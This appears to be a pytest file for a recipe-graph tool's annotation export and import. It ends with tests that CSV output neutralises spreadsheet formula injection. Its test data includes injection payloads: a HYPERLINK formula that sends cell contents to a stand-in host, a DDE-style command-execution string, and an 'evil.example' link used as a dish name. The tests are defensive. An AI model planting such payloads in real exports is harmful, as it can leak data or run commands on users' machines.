"""The annotation loop: export questions with example phrases, import majority votes as PIVOT edges."""

from __future__ import annotations

import csv
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dishgraph import csvcells
from dishgraph.knowledge import annotation, pivots
from dishgraph.testing.planted import load_planted, planted_pivot_corpus


@pytest.fixture
def mined(store):
    corpus = planted_pivot_corpus(n_pairs=1, n_recipes=50, seed=4)
    load_planted(store, corpus)
    base, target = corpus.pairs[0]
    res = pivots.mine_pivots(store, base, target)
    return res


def _answer(src, dst, answers: dict[str, str], column="answer"):
    with open(src, encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    with open(dst, "w", newline="", encoding="utf-8") as fh:
        fields = [c for c in rows[0] if c != "answer"] + [column]
        w = csv.DictWriter(fh, fieldnames=fields)
        w.writeheader()
        for r in rows:
            r.pop("answer")
            w.writerow({**r, column: answers.get(r["action"], "")})


def test_export_questions(store, mined, tmp_path):
    q = tmp_path / "q.csv"
    n = annotation.export_questions(store, mined.pair, q)
    manual = [p for p in mined.pivots if p.kind == "manual"]
    assert n == len(manual) == 2
    rows = list(csv.DictReader(open(q, encoding="utf-8")))
    assert {r["action"] for r in rows} == {p.action for p in manual}
    assert {r["side"] for r in rows} == {"base", "target"}
    for r in rows:
        assert r["example_1"] and r["answer"] == "" and r["target"] in r["question"]
    n_all = annotation.export_questions(store, mined.pair, tmp_path / "all.csv", include_mined=True)
    assert n_all == len(mined.pivots)


def test_import_majority(store, mined, tmp_path):
    q = tmp_path / "q.csv"
    annotation.export_questions(store, mined.pair, q)
    rows = list(csv.DictReader(open(q, encoding="utf-8")))
    base_side = next(r["action"] for r in rows if r["side"] == "base")
    target_side = next(r["action"] for r in rows if r["side"] == "target")
    votes = [
        {base_side: "does not occur", target_side: "always"},
        {base_side: "不出现", target_side: "sometimes"},
        {base_side: "rarely", target_side: "does not occur"},
    ]
    files = []
    for i, v in enumerate(votes):
        _answer(q, tmp_path / f"a{i}.csv", v)
        files.append(tmp_path / f"a{i}.csv")
    rep = annotation.import_answers(store, files)
    kinds = {d.action: d.kind for d in rep.decisions}
    assert kinds == {base_side: "remove", target_side: "insert"}
    edges = {(p.action, p.source): p for p in pivots.pivots(store, mined.base, mined.target)}
    e = edges[(base_side, "annotated")]
    assert e.kind == "remove" and json.loads(e.votes) == {"does not occur": 2, "rarely": 1, "sometimes": 0, "always": 0}
    assert e.fb == edges[(base_side, "mined")].fb
    eff = pivots.effective_pivots(store, mined.base, mined.target)
    assert eff[base_side] == "remove" and eff[target_side] == "insert"
    # a re-import with a different majority replaces the decision ("none" drops it from the pivots)
    for i in range(3):
        _answer(q, tmp_path / f"b{i}.csv", {base_side: "sometimes"}, column="answer_x")
    annotation.import_answers(store, [tmp_path / f"b{i}.csv" for i in range(3)])
    eff = pivots.effective_pivots(store, mined.base, mined.target)
    assert base_side not in eff and eff[target_side] == "insert"
    side = {r["action"]: r for r in pivots.side_by_side(store, mined.base, mined.target)}
    assert side[base_side]["annotated"] == "none" and side[base_side]["mined"] == "manual"


def test_import_too_few_and_bad_answers(store, mined, tmp_path):
    q = tmp_path / "q.csv"
    annotation.export_questions(store, mined.pair, q)
    action = next(csv.DictReader(open(q, encoding="utf-8")))["action"]
    _answer(q, tmp_path / "a.csv", {action: "always"})
    rep = annotation.import_answers(store, [tmp_path / "a.csv", tmp_path / "a.csv"])
    assert rep.decisions == [] and rep.skipped[0]["answers"] == 2
    _answer(q, tmp_path / "bad.csv", {action: "often-ish"})
    with pytest.raises(ValueError, match=r"bad\.csv:2: answer 'often-ish'"):
        annotation.import_answers(store, [tmp_path / "bad.csv"])


# ------------------------------------------------------------------ CSV injection (issue #25 §2)
FORMULA_TEXT = st.one_of(
    st.text(),
    st.builds(lambda c, rest: c + rest, st.sampled_from(sorted(csvcells.FORMULA_STARTS | {"'"})), st.text()),
    st.sampled_from(['=HYPERLINK("http://x.example/?q="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "'=1", "''"]),
)


def _raw_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.lists(FORMULA_TEXT, min_size=3, max_size=3), min_size=1, max_size=4))
def test_cells_are_neutralised_and_read_back_unchanged(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("cells") / "q.csv"
    columns = ["pair", "action", "answer"]
    csvcells.write_rows(path, columns, [dict(zip(columns, r)) for r in rows])
    assert not [c for c in _raw_cells(path) if c[:1] in csvcells.FORMULA_STARTS]
    header, back = csvcells.read_rows(path)
    assert header == columns
    assert [[r[c] for c in columns] for _, r in back] == rows


@given(st.text())
@settings(max_examples=500, derandomize=True, database=None)
def test_restore_undoes_neutralise_and_leaves_unescaped_cells_alone(text):
    assert csvcells.restore(csvcells.neutralise(text)) == text
    assert csvcells.neutralise(text)[:1] not in csvcells.FORMULA_STARTS
    if text[:1] != "'":
        assert csvcells.restore(text) == text  # a spreadsheet that saved =x without the quote: read as written


def test_export_annotation_escapes_formula_dish_names_and_import_reads_them_back(store, tmp_path):
    corpus = planted_pivot_corpus(n_pairs=1, n_recipes=50, seed=4)
    old_base, old_target = corpus.pairs[0]
    base, target = '=HYPERLINK("http://evil.example","x")', "@SUM(1;2)"
    corpus.recipes = {{old_base: base, old_target: target}.get(d, d): r for d, r in corpus.recipes.items()}
    corpus.pairs = [(base, target)]
    load_planted(store, corpus)
    mined = pivots.mine_pivots(store, base, target)
    q = tmp_path / "q.csv"
    assert annotation.export_questions(store, mined.pair, q) == 2
    cells = _raw_cells(q)
    assert "'" + base in cells and "'" + target in cells and "'" + mined.pair in cells
    assert not [c for c in cells if c[:1] in csvcells.FORMULA_STARTS]
    rows = [r for _, r in csvcells.read_rows(q)[1]]
    assert {(r["pair"], r["base"], r["target"]) for r in rows} == {(mined.pair, base, target)}
    for i in range(3):
        _answer(q, tmp_path / f"a{i}.csv", {r["action"]: "always" for r in rows})
    rep = annotation.import_answers(store, [tmp_path / f"a{i}.csv" for i in range(3)])
    assert {d.pair for d in rep.decisions} == {mined.pair} and len(rep.decisions) == 2
    assert {p.action for p in pivots.pivots(store, base, target) if p.source == "annotated"} == {
        r["action"] for r in rows
    }
